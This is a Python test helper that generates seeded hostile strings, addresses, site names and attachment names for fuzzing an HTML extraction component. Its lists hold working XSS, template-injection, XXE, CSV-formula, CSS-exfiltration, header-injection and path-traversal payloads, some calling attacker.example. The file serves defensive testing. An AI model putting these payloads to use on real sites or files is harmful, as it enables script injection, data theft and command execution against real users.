"""Make as many hostile texts, addresses, names and pages as are wanted, each another one and the same each time.

The forms are those that were published of attacks on pages, templates, feeds, spreadsheets, headers and file names, in
our own spelling. Each is put into another shape: encoded, in the middle of something, with characters that parsers skip.
"""

from __future__ import annotations

import random
from html import escape
from typing import TYPE_CHECKING
from urllib.parse import quote

from tests.extraction.body_html.attacks import ATTACKS, BOMBS

if TYPE_CHECKING:
    from collections.abc import Callable

_RUN = "alert(1)"
_MARKUP = [one for one in ATTACKS if one not in BOMBS]
_TEMPLATES = [
    "{{ 7 * 7 }}", "{% raw %}", "{% endblock %}{% include 'base.html' %}", "{# x", "{{ ''.__class__.__mro__ }}",
    "{{ p.root }}", "{{ cycler.__init__.__globals__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%(x)s%n",
    "{title}", "{number}{all}", "@{7*7}", "[[${7*7}]]", "*{7*7}", "{{constructor.constructor('alert(1)')()}}",
]  # fmt: skip
_ENDS = [
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>",
    "</style><svg onload=alert(1)>", "--><script>alert(1)</script>", "--!><img src=x onerror=alert(1)>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>", "<!--<script>", "</script", "<!--<script></script>-->",
    "\\u003c/script>", "\u2028alert(1)\u2029", '","@type":"x","url":"javascript:alert(1)"', "</p></dd></dl></main>",
    "</q></span></details>", "</td></tr></table></div>", "</pre></code>", "</mark></a></h3>", "?><x/>", "&xxe;",
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>", "<![CDATA[", "</content></entry></feed>",
]  # fmt: skip
_ATTRIBUTES = [
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)", '" autofocus onfocus=alert(1) x="',
    '" style="background:url(//attacker.example/x)', '" href="javascript:alert(1)', '" src=x onerror=alert(1) "',
    '"><base href="//attacker.example/">', '"><form action="//attacker.example/"><button>', '" formaction="javascript:alert(1)',
    '"><meta http-equiv=refresh content="0;url=//attacker.example/">', '" download="x.exe', '" hidden class="hidden',
    "x onmouseover=alert(1)", "/onmouseover=alert(1)", '" id="content" name="keys', '" lang="x" dir="rtl',
]  # fmt: skip
_SIGNS = [
    "\u202e\u2066gnp.exe", "\u202dabc\u202c", "\u2067x\u2069", "\u061c\u200e\u200f", "\u0000\u0001\u0008", "\x1b[2J\x1b]0;x\x07",
    "\x7f\x80\x9f", "\ufffe\uffff", "\ufdd0", "\ud800", "\udfff\ud800", "\U000e0041\U000e007f", "\ue000b\ue001", "\ue010x\ue012",
    "\x1c\x1d\x1e\x1f", "\x1d1", "a\u0300" * 60, "\u200b\u200c\u200d\u2060\ufeff", "\u3164\u115f", "\r\n\r\n", "\t\v\f\x85",
    "аdmіn.gоv.cn", "ⓖⓞⓥ．ｃｎ", "\ufeff\ufeff", "𝐣𝐚𝐯𝐚𝐬𝐜𝐫𝐢𝐩𝐭:alert(1)", "﷽" * 40, "\U0001f469\u200d" * 20, "\u0130\u0131\u017f\u1e9e",
    "長" * 3_000, "w" * 3_000, "\u3000" * 300, " " * 300, "，。" * 200,
]  # fmt: skip
_FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://attacker.example/")',
    "＝1+1", '"=1', "';=1", " =1", ",=1", "=1\n=2", "%0A=1",
]  # fmt: skip
_FILES = [
    'x.doc"\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>', "../../../../etc/passwd", "..\\..\\x.exe", "/etc/passwd",
    "C:\\x.exe", "x.doc\0.html", "x.html", "x.svg", "CON", ".htaccess", "x.pdf.exe", "x" * 300 + ".doc", "x.doc/",
    "\u202ecod.exe", "x;filename=y.html", "x%00.html", "x%0d%0aLocation:%20//attacker.example", "file://attacker.example/x",
    "x.zip:../../x", "-rf", "$(id).doc", "`id`.doc", "|id.doc",
]  # fmt: skip
_CSS = [
    "</style>", "expression(alert(1))", "url(//attacker.example/x)", "@import '//attacker.example/x';", "}*{display:none}",
    "\\3c script\\3e", "x:x;behavior:url(x)", "input[value^=a]{background:url(//attacker.example/a)}",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "javascript://www.x.cn/%0aalert(1)",
    "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:http://x/1", "file:///etc/passwd", "about:blank", "//attacker.example/x", "\\\\attacker.example\\x", "/\\attacker.example",
    "http:attacker.example", "https:javascript:alert(1)", "http:/\tx", "http://[::1", "http://\0", "http://", "https://x\r\nX: y",
    'http://x/" onclick="alert(1)', "http://x/'><img src=x onerror=alert(1)>", "http://x/<script>alert(1)</script>",
    "http://user:secret@attacker.example/", "http://attacker.example\\@x.gov.cn/", "http://x.gov.cn@attacker.example/",
    "http://xn--e1afmkfd/", "http://x.gov.cn/\u202egnp", "http://x/ y", "mailto:x@x?subject=<b>&body=%0A", "mailto:javascript:alert(1)",
    "MAILTO:x", "HTTP://X/", "ftp://x/", "tel:1", "ws://x", "view-source:http://x/", "intent://x#Intent;scheme=javascript;end",
    "?javascript:alert(1)", "#javascript:alert(1)", "../../b/demo/1", "http://x/" + "a" * 3_000, "http://x/%", "http://x/%zz", "",
]  # fmt: skip
"""Addresses that lead somewhere else than they seem, or nowhere."""
SITE_NAMES = [
    "demo", "a\"'><b>&区", "<script>alert(1)</script>".replace("/", "∕"), "javascript:alert(1)", "{{7*7}}{%raw%}", "a b?c#d%2f%00e",
    "=1+1", "txt\u0301", "x;y,z", "x..", "区县" * 20, "%2e%2e", "con", "a&amp;b", "'+alert(1)+'", "-x",
]  # fmt: skip
"""Names of directories of sites; an operator chooses them, and a page has to bear them."""


def _mixed(dice: random.Random, text: str) -> str:
    return "".join(one.upper() if dice.random() < 0.5 else one.lower() for one in text)


def _with_skipped(dice: random.Random, text: str) -> str:
    at = dice.randint(0, len(text))
    return text[:at] + dice.choice("\0\t\n\r\f\u200b\u00ad\ufeff/\u2028") + text[at:]


_SHAPES: list[Callable[[random.Random, str], str]] = [
    lambda _, text: text,
    lambda _, text: text,
    lambda _, text: text,
    lambda _, text: escape(text),
    lambda _, text: escape(escape(text)),
    lambda _, text: quote(text, errors="replace"),
    lambda _, text: "".join(f"&#{ord(one)};" for one in text[:60]),
    lambda _, text: "".join(f"\\u{ord(one):04x}" for one in text[:60] if ord(one) < 0x10000),
    lambda _, text: text.encode("utf-16-le", "replace").decode("latin-1") if len(text) < 60 else text,
    lambda _, text: text.translate({ord("<"): "＜", ord(">"): "＞", ord('"'): "＂"}),
    lambda dice, text: f"{dice.choice(_ENDS)}{text}",
    lambda dice, text: f"{dice.choice(_ATTRIBUTES)}>{text}",
    lambda dice, text: f"{text}{dice.choice(_MARKUP)}",
    lambda dice, text: f"改造{text}工程{dice.choice(_SIGNS)[:40]}",
    lambda dice, text: f"{dice.choice(_TEMPLATES)}{text}",
    lambda dice, text: f"{text[: dice.randint(0, len(text))]}{dice.choice(_MARKUP)}",
    _mixed,
    _with_skipped,
    _with_skipped,
]
_KINDS = [
    _MARKUP,
    _MARKUP,
    _MARKUP,
    _TEMPLATES,
    _ENDS,
    _ATTRIBUTES,
    _SIGNS,
    _FORMULAS,
    _FILES,
    _CSS,
    ADDRESSES,
]


class HostileTexts:
    """The texts of one bulletin; ``number`` says which."""

    def __init__(self, number: int, seed: str = "") -> None:
        self.number = number
        self.dice = random.Random(f"{seed}/{number}")
        self._count = 0

    def text(self) -> str:
        """Return another text, which no other bulletin has."""
        self._count += 1
        text = self.dice.choice(self.dice.choice(_KINDS))
        shaped = self.dice.choice(_SHAPES)(self.dice, text)
        name = f"{self.number}z{self._count}"
        return (
            f"{shaped.replace(_RUN, f'alert({self.number})')}{name}"
            if self.dice.random() < 0.8
            else f"{name}{shaped}"
        )

    def address(self) -> str:
        """Return another address."""
        self._count += 1
        found = self.dice.choice(ADDRESSES)
        if self.dice.random() < 0.3:
            found = f"{found}{self.dice.choice(_ATTRIBUTES)}"
        return f"{found}?{self.number}z{self._count}"

    def markup(self) -> str:
        """Return markup that a page may have among its paragraphs; rarely it is large."""
        kind = BOMBS if self.dice.random() < 0.004 else _MARKUP
        return self.dice.choice(kind).replace(_RUN, f"alert({self.number})")

    def file_name(self) -> str:
        """Return the name of an attachment."""
        self._count += 1
        return f"{self.dice.choice(_FILES)}{self.number}z{self._count}"
